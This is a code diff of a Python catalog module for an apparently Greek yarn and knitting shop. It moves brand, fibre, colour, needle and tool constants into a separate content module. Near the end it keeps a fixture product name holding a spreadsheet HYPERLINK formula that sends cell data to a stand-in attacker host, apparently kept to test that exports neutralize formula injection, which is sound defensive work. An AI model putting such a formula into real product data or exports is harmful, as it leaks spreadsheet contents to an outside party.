@@ -13,6 +13,17 @@ from dataclasses import dataclass, field
 from decimal import ROUND_HALF_UP, Decimal
 from functools import lru_cache
 
+from .catalog_content import (
+    _BRANDS_TOOLS,
+    _BRANDS_YARN,
+    _COLOURS,
+    _FIBRE_EL,
+    _NEEDLE_SIZES,
+    _NOTION_ITEMS,
+    _TOOLS,
+    _YARN_LINES,
+)
+
 CENT = Decimal("0.01")
 
 
@@ -174,58 +185,6 @@ class Catalog:
         """Products of a category or of any of its subcategories, in catalog order."""
         return [p for p in self.products if any(category in c.path() for c in p.categories)]
 
-
-# --- content -------------------------------------------------------------------------
-
-_BRANDS_YARN = ("Drops", "Lana Grossa", "Katia", "Rico Design", "Adriafil", "Gazzal", "Alize", "Lang Yarns")
-_BRANDS_TOOLS = ("KnitPro", "ChiaoGoo", "Addi", "Clover", "Prym", "Pony")
-_YARN_LINES = (
-    # (line, fibres, weight g, length m, needles (min, max))
-    ("Merino Extra Fine", ((100, "merino"),), 50, 105, ("4", "4,5")),
-    ("Baby Cotton", ((60, "cotton"), (40, "acrylic")), 50, 165, ("3", "3,5")),
-    ("Kid Mohair Silk", ((70, "mohair"), (30, "silk")), 25, 210, ("3,5", "5")),
-    ("Alpaca Soft", ((80, "alpaca"), (20, "polyamide")), 50, 120, ("4,5", "5")),
-    ("Sock Yarn 4ply", ((75, "wool"), (25, "polyamide")), 100, 420, ("2,5", "3")),
-    ("Chunky Wool", ((100, "wool"),), 100, 80, ("8", "10")),
-    ("Linen Blend", ((55, "linen"), (45, "cotton")), 50, 140, ("3,5", "4")),
-    ("Tweed Aran", ((85, "wool"), (15, "viscose")), 100, 170, ("5", "5,5")),
-)
-_FIBRE_EL = {
-    "merino": "μαλλί merino",
-    "cotton": "βαμβάκι",
-    "acrylic": "ακρυλικό",
-    "mohair": "μοχέρ",
-    "silk": "μετάξι",
-    "alpaca": "αλπακά",
-    "polyamide": "πολυαμίδιο",
-    "wool": "μαλλί",
-    "linen": "λινάρι",
-    "viscose": "βισκόζη",
-}
-_COLOURS = (
-    ("Κόκκινο", "Red", "01"),
-    ("Μπλε", "Blue", "02"),
-    ("Πράσινο", "Green", "03"),
-    ("Λευκό", "White", "04"),
-    ("Μαύρο", "Black", "05"),
-    ("Γκρι", "Grey", "06"),
-    ("Μπεζ", "Beige", "07"),
-    ("Ροζ", "Pink", "08"),
-)
-_NEEDLE_SIZES = ("2,5", "3", "3,5", "4", "4,5", "5", "6", "8")
-_TOOLS = (
-    # (kind, name el, name en, category id)
-    ("needles", "Κυκλικές βελόνες", "Circular needles", 21),
-    ("needles", "Ίσιες βελόνες", "Straight needles", 22),
-    ("hook", "Βελονάκι", "Crochet hook", 30),
-)
-_NOTION_ITEMS = (
-    ("Μαρκαδόροι πλέξης (20 τεμ.)", "Stitch markers (20 pcs)"),
-    ("Μετροταινία", "Tape measure"),
-    ("Βελόνες ραψίματος", "Darning needles"),
-    ("Μετρητής βελονών", "Needle gauge"),
-    ("Τσάντα πλεκτικής", "Knitting bag"),
-)
 
 #: A product whose name a spreadsheet would run as a formula: exports must neutralize it.
 FORMULA_BAIT_NAME = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Merino Deluxe")'
